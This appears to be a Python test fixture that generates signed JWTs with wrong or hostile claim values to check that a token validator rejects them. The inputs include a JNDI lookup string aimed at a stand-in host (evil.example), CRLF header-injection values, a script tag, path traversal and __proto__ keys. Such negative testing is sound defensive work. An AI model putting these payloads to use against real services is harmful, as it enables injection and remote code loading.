"""Hostile tokens with a wrong payload. Our own key signs all of them, under our own header."""

import json
from collections.abc import Iterator, Mapping

from tests.support.access_tokens import AUDIENCE, ISSUER, claims_at, key, signed_token, to_json

Row = tuple[str, str]

ISSUERS: list[object] = [
    "", ISSUER + "/", ISSUER.upper(), "HTTPS://auth.example.com", "http://auth.example.com", "auth.example.com",
    "https://auth.example.com:443", "https://auth.example.com.", "https://auth.example.com#",
    "https://auth.example.com?",
    "https://auth.example.com/dev", "https://auth.example.com.evil.example",
    "https://auth.example.com@evil.example",
    "https://evil.example/https://auth.example.com", "https://auth.example.co", "https://auth.exampl\u0435.com",
    "https://\uff41uth.example.com", " " + ISSUER, ISSUER + " ", ISSUER + "\x00", ISSUER + "\n", "*", None, True, 0,
    1.5, [ISSUER], [ISSUER, "https://evil.example"], [], {"iss": ISSUER}, {},
]  # fmt: skip

AUDIENCES: list[object] = [
    "", AUDIENCE + "/", AUDIENCE.upper(), "http://api.example.com", "api.example.com",
    "https://api.example.com.evil.example",
    "https://api.example.co", AUDIENCE + " ", AUDIENCE + "," + "x", AUDIENCE + " x", "*", "https://*.example.com",
    None, True, 0, [], [AUDIENCE], [AUDIENCE, "x"], ["x"], [None], [[AUDIENCE]], {"aud": AUDIENCE}, {}, ISSUER,
]  # fmt: skip

NO_TIMES: list[object] = [None, True, False, "", "never", [], {}, -1, -(2**63), "9999999999", " 9999999999", "1e10"]

NO_IDENTIFIERS: list[object] = [
    "", " ", "a b", "a\n", "\r\nX-Admin: 1", "a/b", "../x", "a*", "<script>", 'a"', "a\\", "a\x00b", "é", "\ud800",
    "a" * 129,
    "${jndi:ldap://evil.example}", None, True, 0, 1.5, [], ["a"], {}, {"sub": "a"},
]  # fmt: skip

NO_LISTS: list[object] = [
    [],
    "admin",
    "admin ops",
    [""],
    ["a b"],
    ["a,b"],
    ["a", None],
    ["a", 1],
    [["a"]],
    {"a": 1},
    None,
    True,
    1,
]

NO_LEVELS: list[object] = [
    "", " ", "0", "2", "0fa", "3fa", "2FA", "1FA", "PHR", "phrh", "2fa ", " 2fa", "2fa\n", "2fa\x00", "1fa 2fa",
    "2fa,phr", "1fa|2fa", "2f", "22fa", "\uff12fa", "p\u04bbr", "urn:mace:incommon:iap:silver", "*", ".*",
    None, True, False, 2, 10**20, [], ["2fa"], ["1fa", "2fa"], [["2fa"]], {"acr": "2fa"}, {},
]  # fmt: skip

# Values that no operator can give to a user.
NO_OWN_CLAIMS: list[object] = [
    "", 'a"', "a\\", "a\n", "a\x00", "[a]", "\u00e9", "\ud800", "a" * 129, "\r\nX-Admin: 1", None, 2**53,
    -(2**53), 10**100, [], [[]], [None], [1], [True], ["a b"], ["a", 1], ["a" * 65], {}, {"a": 1}, {"sub": "root"},
]  # fmt: skip

NO_OWN_NAMES = [
    ":", ":tenant", "acme:", "Acme:tenant", "ACME:TENANT", "acme:ten ant", "acme:tenant\n", "acme:t\u00e9nant",
    "7:tenant",
    'acme:"', "acme:\\", "acme:*", "acme:[0]", "acme:\x00", " acme:tenant", "sub:", ":sub", "a" * 33 + ":b",
    "a:" + "b" * 65,
    "\uff41cme:tenant", "__proto__:x",
]  # fmt: skip

WRONG_VALUES: dict[str, list[object]] = {
    "iss": ISSUERS,
    "aud": AUDIENCES,
    **dict.fromkeys(("exp", "iat", "auth_time", "nbf"), NO_TIMES),
    **dict.fromkeys(("sub", "sid", "jti", "client_id"), NO_IDENTIFIERS),
    **dict.fromkeys(("roles", "amr"), NO_LISTS),
    "acr": NO_LEVELS,
    **dict.fromkeys(("acme:tenant", "https://example.com/tenant"), NO_OWN_CLAIMS),
    "scope": ["", " ", "a  b", " a", "a ", "a\tb", 'a"b', "a\\b", "é", None, True, 1, [], ["a"], {}],
}


def rows(now: int) -> Iterator[Row]:
    """Yield the rows."""
    good = claims_at(now).payload()
    for name, values in WRONG_VALUES.items():
        for value in values:
            yield f"{name} {json.dumps(value)[:60]}", _signed({**good, name: value})
    for name in ("iss", "aud", "sub", "client_id", "iat", "exp", "jti", "sid", "auth_time"):
        kept = {other: value for other, value in good.items() if other != name}
        yield f"no {name}", _signed(kept)
        yield f"{name} in capitals", _signed({**kept, name.upper(): good[name]})
    for name in NO_OWN_NAMES:
        yield f"own claim {json.dumps(name)[:60]}", _signed({**good, name: "7"})
    for name, times in _wrong_times(now).items():
        yield name, _signed({**good, **times})
    for name, body in _texts(to_json(good), now).items():
        yield name, _signed(body)


def _signed(body: Mapping[str, object] | bytes) -> str:
    return signed_token(body, signed_by=key("ES256"))


def _wrong_times(now: int) -> dict[str, dict[str, int]]:
    """Return wrong times that are whole numbers. The margins leave room for a slow test run."""
    hour = 3600
    return {
        "expired a minute ago": {"exp": now - 60, "iat": now - 900},
        "expired an hour ago": {"exp": now - hour, "iat": now - 2 * hour},
        "expired in 1970": {"exp": 1, "iat": 0},
        "exp 0": {"exp": 0},
        "issued in an hour": {"iat": now + hour, "exp": now + 2 * hour},
        "issued in ten minutes": {"iat": now + 600, "exp": now + 900},
        "not before an hour": {"nbf": now + hour},
        "not before ten minutes": {"nbf": now + 600},
        "exp before iat": {"exp": now + 300, "iat": now + 301},
        "exp equals iat": {"exp": now + 20, "iat": now + 20},
        "lives an hour and a second": {"exp": now + hour + 1, "iat": now},
        "lives a day": {"exp": now + 86_400},
        "lives for ever": {"exp": 2**31 - 1},
        "exp in milliseconds": {"exp": now * 1000},
        "exp 2^53": {"exp": 2**53},
        "exp 2^63": {"exp": 2**63},
        "exp 2^64 and some": {"exp": 2**64 + now},
        "exp a googol": {"exp": 10**100},
        "iat 0": {"iat": 0},
        "iat long ago": {"iat": now - hour},
    }


def _texts(good: bytes, now: int) -> dict[str, bytes]:
    """Return payload texts that a lax parser accepts."""
    later = str(now + 900).encode()

    def more(member: bytes) -> bytes:
        return good[:-1] + b"," + member + b"}"

    texts = {
        "exp as 1e99": good.replace(b'"exp":' + later, b'"exp":1e99'),
        "exp as a float": good.replace(b'"exp":' + later, b'"exp":' + later + b".0"),
        "exp as NaN": good.replace(b'"exp":' + later, b'"exp":NaN'),
        "exp as Infinity": good.replace(b'"exp":' + later, b'"exp":Infinity'),
        "exp as -Infinity": good.replace(b'"exp":' + later, b'"exp":-Infinity'),
        "exp of 900 digits": good.replace(b'"exp":' + later, b'"exp":' + b"9" * 900),
        "exp with a leading zero": good.replace(b'"exp":' + later, b'"exp":0' + later),
        "exp in hex": good.replace(b'"exp":' + later, b'"exp":0x7fffffff'),
        "exp with a plus": good.replace(b'"exp":' + later, b'"exp":+' + later),
        "a float elsewhere": more(b'"x":1.5'),
        "NaN elsewhere": more(b'"x":NaN'),
        "UTF-16": good.decode().encode("utf-16"),
        "UTF-16, no mark": good.decode().encode("utf-16-le"),
        "UTF-32": good.decode().encode("utf-32"),
        "byte order mark": b"\xef\xbb\xbf" + good,
        "invalid UTF-8": more(b'"x":"\xff"'),
        "overlong UTF-8": more(b'"x":"\xc1\xa1"'),
        "surrogates in UTF-8": more(b'"x":"\xed\xa0\x80"'),
        "raw control character": more(b'"x":"\x01"'),
        "NUL after": good + b"\x00",
        "trailing comma": good[:-1] + b",}",
        "a comment": good + b"//",
        "single quotes": good.replace(b'"', b"'"),
        "two objects": good + good,
        "cut short": good[:-1],
        "a list of one": b"[" + good + b"]",
        "nested in an object": b'{"claims":' + good + b"}",
        "a list of pairs": json.dumps([["iss", ISSUER]]).encode(),
        "a text": b'"' + ISSUER.encode() + b'"',
        "a number": b"1",
        "null": b"null",
        "true": b"true",
        "an empty object": b"{}",
        "an empty list": b"[]",
        "no text at all": b" ",
        "deep nesting": b"[" * 600 + b"]" * 600,
        "deep nesting, never closed": b'{"a":' * 200,
        "__proto__": b'{"__proto__":' + good + b"}",
    }
    for name, value in (("sub", b'"root"'), ("exp", later), ("iss", b'"x"'), ("aud", b'"x"'), ("roles", b'["root"]')):
        texts[f"{name} twice, ours first"] = more(b'"' + name.encode() + b'":' + value)
        texts[f"{name} twice, ours last"] = b'{"' + name.encode() + b'":' + value + b"," + good[1:]
    for first, second in ((b"1fa", b"2fa"), (b"2fa", b"2fa"), (b"2fa", b"1fa")):
        texts[f"acr {first.decode()}, then {second.decode()}"] = more(b'"acr":"' + first + b'","acr":"' + second + b'"')
    texts["acr twice, escaped"] = more(b'"acr":"1fa","a\\u0063r":"2fa"')
    texts["auth_time twice"] = more(b'"auth_time":' + later)
    texts["an own claim twice"] = more(b'"acme:tenant":"7","acme:tenant":"8"')
    texts["an own claim twice, escaped"] = more(b'"acme:tenant":"7","acme\\u003atenant":"8"')
    texts["an own claim as a float"] = more(b'"acme:tenant":7.0')
    texts["sub twice, escaped"] = more(b'"s\\u0075b":"root"')
    texts["twice at depth"] = more(b'"x":{"a":1,"a":2}')
    return texts
